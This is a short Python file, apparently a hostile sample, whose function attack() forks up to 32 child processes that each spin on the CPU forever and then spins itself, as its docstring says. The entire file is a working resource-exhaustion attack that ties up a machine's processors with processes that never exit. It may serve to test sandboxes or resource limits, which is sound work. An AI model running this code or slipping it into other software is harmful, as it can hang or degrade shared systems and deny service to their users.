"""Forks children that spin on the CPU and never exit, then spins itself."""

import os


def attack(*args, **kwargs):
    for _ in range(32):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            break
    while True:
        pass
